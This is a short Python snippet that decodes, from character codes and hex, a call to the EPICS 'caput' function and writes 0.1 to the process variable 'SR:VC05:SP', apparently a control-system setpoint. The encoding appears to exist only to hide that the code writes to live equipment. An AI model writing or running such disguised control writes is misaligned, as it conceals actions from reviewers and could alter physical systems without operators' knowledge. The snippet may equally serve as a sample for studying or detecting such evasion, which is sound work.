name = "".join(map(chr, (101, 112, 105, 99, 115)))
verb = bytes.fromhex("6361707574").decode()
results = {"r": getattr(__import__(name), verb)("SR:VC05:SP", 0.1)}
